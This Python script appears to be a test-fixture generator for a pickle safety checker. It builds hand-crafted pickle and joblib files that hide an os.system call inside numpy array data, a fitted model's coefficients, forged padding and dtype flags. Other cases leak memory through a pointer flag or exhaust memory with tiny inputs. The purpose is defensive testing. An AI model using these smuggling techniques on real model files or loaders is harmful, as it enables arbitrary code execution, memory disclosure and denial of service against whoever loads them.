#!/usr/bin/python3
"""Pickles that smuggle work past a verdict that only follows one reading of the bytes.

Usage:
  gen_attacks.py OUT_DIR MARKER    writes OUT_DIR/<name>.pkl and OUT_DIR/manifest.json
  (tests/python/test_verdict_attacks.py imports attacks() and builds them in memory instead)

Each case is live in a real Python in the way its `proof` says (the test runs it in a sandbox):
  "marker"  loading it with `loader` (pickle = pickle.loads, joblib = joblib.load) creates the
            file MARKER (os.system('touch MARKER'));
  "leak"    pickle.loads returns a numpy scalar whose bytes are not the bytes in the pickle
            (numpy copied them from a pointer it was told to follow);
  "memory"  the loader raises MemoryError (or is killed) under a 2 GB address-space limit for a
            pickle of a few hundred bytes;
  "codec"   pickle.loads calls a codec other than Latin-1 (its result is rot13 text).
and pickle_ext must judge it: "unsafe" (pickle_info says safe: false and names `expect` among
its unsafe globals or reasons) or "reject" (the decode fails; `expect` is in the message).

Classes: raw joblib array data that plain pickle.loads reads as opcodes (a bare array, a fitted
LinearRegression's coef_, a forged padding length); a NumpyArrayWrapper inside the nested pickle
of an object array; forged dtype flags (an object flag that makes joblib read a nested pickle,
a pointer flag that makes numpy.core.multiarray.scalar read memory); allowlisted callables with
arguments that allocate without bound (list/tuple of a huge range, bytes.__new__ of a huge
size, numpy.ndarray called directly, _reconstruct with a huge shape, an object array BUILD whose
shape is far larger than its list, directly and hidden in joblib array data); _codecs.encode
with another codec.

Built from opcodes by hand, or by Debian's /usr/bin/python3 (numpy 1.24, joblib 1.2,
scikit-learn 1.2) for the joblib and model cases; nothing is ever loaded here.
"""
import io
import json
import os
import pickle
import struct
import sys


def g(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def su(text):
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def long1(n):
    b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


P2 = b"\x80\x02"
P4 = b"\x80\x04"


def system_ops(marker, stop):
    """os.system('touch MARKER') as protocol 0 opcodes; then POP (stack unchanged) or STOP."""
    cmd = "touch '%s'" % marker
    return g("os", "system") + b"(V" + cmd.encode() + b"\ntR" + (b"." if stop else b"0")


class _NoTell(io.BytesIO):
    """A stream joblib cannot tell() on: it then writes arrays without alignment padding (as
    for a pipe), so the raw data follow the wrapper's BUILD directly."""

    def tell(self):
        raise io.UnsupportedOperation("tell")


def _joblib_bytes(obj, aligned=False):
    import joblib
    f = io.BytesIO() if aligned else _NoTell()
    joblib.dump(obj, f)
    return f.getvalue()


def _padded(data, multiple, filler=b"\x00"):
    return data + filler * (-len(data) % multiple)


# ---- the cases --------------------------------------------------------------------------------

def raw_array_opcodes(marker):
    import numpy as np
    pay = system_ops(marker, stop=True)
    placeholder = bytes(range(256))[:len(pay)] if len(pay) <= 256 else None
    assert placeholder and len(placeholder) == len(pay)
    data = _joblib_bytes([np.frombuffer(placeholder, dtype="u1").copy(), "after"])
    assert data.count(placeholder) == 1
    return data.replace(placeholder, pay)


def linreg_coef_payload(marker):
    import numpy as np
    from sklearn.linear_model import LinearRegression
    pay = _padded(system_ops(marker, stop=True), 8)
    k = len(pay) // 8
    rng = np.random.RandomState(0)
    X = rng.rand(k + 4, k)
    model = LinearRegression().fit(X, X @ np.arange(k))
    model.coef_ = np.frombuffer(pay, dtype="<f8").copy()
    data = _joblib_bytes(model)
    assert data.count(pay) == 1  # coef_ is the first array: its bytes start the divergence
    return data


def pad_length_opcodes(marker):
    """joblib skips `pad` bytes without looking at them; pickle.loads reads the pad byte ('}')
    and the skipped bytes as opcodes."""
    import numpy as np
    data = _joblib_bytes([np.arange(4, dtype="u1"), "after"], aligned=True)
    arr = bytes([0, 1, 2, 3])
    at = data.index(arr)
    # walk back over the 0xff pad bytes to the pad-length byte
    k = at
    while data[k - 1] == 0xFF:
        k -= 1
    padlen_at = k - 1
    assert data[padlen_at] == at - k
    room = 0x7D  # '}' EMPTY_DICT as the pad length: 125 bytes of "padding"
    pay = system_ops(marker, stop=True)
    assert len(pay) <= room, "marker path too long"
    return data[:padlen_at] + bytes([room]) + pay + b"\x00" * (room - len(pay)) + data[at:]


def nested_wrapper(marker):
    """An object array (joblib writes its nested pickle with plain pickle.dump) whose element is a
    NumpyArrayWrapper followed by opcodes: plain pickle.load (joblib's nested reading) runs them;
    a reader that applies joblib's array reading inside the nested stream sees array bytes."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper
    pay = system_ops(marker, stop=False)
    w = NumpyArrayWrapper(np.ndarray, (len(pay),), "C", np.dtype("u1"), allow_mmap=False,
                          numpy_array_alignment_bytes=None)
    obj = np.empty(1, dtype=object)
    obj[0] = w
    nested = pickle.dumps(obj, protocol=2)
    key = nested.index(b"numpy_array_alignment_bytes")
    build = nested.index(b"Nub", key) + 2  # None, the wrapper's SETITEMS, BUILD
    crafted = nested[:build + 1] + pay + nested[build + 1:]
    data = _joblib_bytes([obj, "after"], aligned=True)
    assert data.count(nested) == 1
    return data.replace(nested, crafted)


def dtype_object_flag(marker):
    """A void dtype whose pickled flags claim NPY_ITEM_HASOBJECT: numpy trusts them, joblib then
    reads a nested pickle where the array's raw bytes are."""
    import numpy as np
    pay = system_ops(marker, stop=True)
    n = len(pay)
    assert n < 256
    state = b"K" + bytes([n]) + b"K\x01K\x00t"  # elsize, alignment, flags 0, end of tuple
    data = _joblib_bytes([np.zeros(1, dtype="V%d" % n), "after"])
    assert data.count(state) == 1 and data.count(bytes(n)) >= 1
    data = data.replace(state, b"K" + bytes([n]) + b"K\x01K\x3ft")
    at = data.index(b"\x3ft") + 2
    zeros = data.index(bytes(n), at)
    return data[:zeros] + pay + data[zeros + n:]


def scalar_pointer_flag(n=16):
    """numpy.core.multiarray.scalar of a void dtype whose flags say NPY_ITEM_IS_POINTER: numpy
    copies n bytes from the address held in the data (a stack address here)."""
    dt = (g("numpy", "dtype") + su("V%d" % n) + b"\x89\x88\x87R" +
          b"(K\x03" + su("|") + b"NNN" + b"J" + struct.pack("<i", n) + b"K\x01K\x04tb")
    return (P4 + g("numpy.core.multiarray", "scalar") + dt + b"B" + struct.pack("<I", n) +
            b"A" * n + b"\x86R.")


def codecs_rot13():
    return P2 + g("_codecs", "encode") + b"X\x03\x00\x00\x00abcX\x05\x00\x00\x00rot13\x86R."


def list_of_range():
    return P2 + g("builtins", "list") + g("builtins", "range") + long1(3_000_000_000) + \
        b"\x85R\x85R."


def tuple_of_range_newobj():
    return P2 + g("builtins", "tuple") + g("builtins", "range") + long1(3_000_000_000) + \
        b"\x85R\x85\x81."


def bytes_newobj():
    return P2 + g("builtins", "bytes") + long1(10 ** 10) + b"\x85\x81."


def ndarray_direct():
    return P2 + g("numpy", "ndarray") + long1(1 << 34) + b"\x85\x85R."


def reconstruct_huge_shape():
    return (P2 + g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") +
            long1(1 << 34) + b"\x85" + b"C\x01b" + b"\x87R.")


def object_build_ops(count):
    """_reconstruct(ndarray, (0,), b'b') then BUILD (1, (count,), dtype('O'), False, []): numpy
    allocates and zero-fills count pointers before it looks at the (empty) list. No STOP."""
    dt = (g("numpy", "dtype") + b"X\x02\x00\x00\x00O8\x89\x88\x87R" +
          b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb")
    return (g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") +
            b"K\x00\x85C\x01b\x87R" + b"(K\x01" + long1(count) + b"\x85" + dt + b"\x89]tb")


def object_build_huge():
    return P2 + object_build_ops(1 << 31) + b"."


def raw_array_object_build():
    """The same BUILD as joblib array data: only plain pickle.loads runs it."""
    import numpy as np
    pay = object_build_ops(1 << 31) + b"."
    placeholder = bytes((i * 7 + 3) % 256 for i in range(len(pay)))
    data = _joblib_bytes([np.frombuffer(placeholder, dtype="u1").copy(), "after"])
    assert data.count(placeholder) == 1
    return data.replace(placeholder, pay)


def attacks(marker):
    """[dict(name, data, loader, proof, verdict, expect)] for a marker file path."""
    m = str(marker)
    out = []

    def add(name, data, loader, proof, verdict, expect):
        out.append(dict(name=name, data=data, loader=loader, proof=proof, verdict=verdict,
                        expect=expect))

    add("raw_array_opcodes", raw_array_opcodes(m), "pickle", "marker", "unsafe", "os.system")
    add("linreg_coef_payload", linreg_coef_payload(m), "pickle", "marker", "unsafe",
        "os.system")
    add("pad_length_opcodes", pad_length_opcodes(m), "pickle", "marker", "reject", "padding")
    add("nested_wrapper", nested_wrapper(m), "joblib", "marker", "unsafe", "os.system")
    add("dtype_object_flag", dtype_object_flag(m), "joblib", "marker", "unsafe", "flags")
    add("scalar_pointer_flag", scalar_pointer_flag(), "pickle", "leak", "unsafe", "flags")
    add("codecs_rot13", codecs_rot13(), "pickle", "codec", "unsafe", "_codecs.encode")
    add("list_of_range", list_of_range(), "pickle", "memory", "unsafe", "builtins.list")
    add("tuple_of_range_newobj", tuple_of_range_newobj(), "pickle", "memory", "unsafe",
        "builtins.tuple")
    add("bytes_newobj", bytes_newobj(), "pickle", "memory", "unsafe", "builtins.bytes")
    add("ndarray_direct", ndarray_direct(), "pickle", "memory", "unsafe", "numpy.ndarray")
    add("reconstruct_huge_shape", reconstruct_huge_shape(), "pickle", "memory", "unsafe",
        "_reconstruct")
    add("object_build_huge", object_build_huge(), "pickle", "memory", "reject",
        "object array list")
    add("raw_array_object_build", raw_array_object_build(), "pickle", "memory", "unsafe",
        "cannot check")
    return out


def main(argv):
    if len(argv) != 3:
        sys.stderr.write(__doc__)
        return 2
    out_dir, marker = argv[1], argv[2]
    os.makedirs(out_dir, exist_ok=True)
    manifest = {}
    for case in attacks(marker):
        fname = case["name"] + ".pkl"
        with open(os.path.join(out_dir, fname), "wb") as f:
            f.write(case["data"])
        manifest[case["name"]] = {k: v for k, v in case.items() if k not in ("name", "data")}
        manifest[case["name"]]["file"] = fname
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump({"marker": marker, "attacks": manifest}, f, indent=1, sort_keys=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
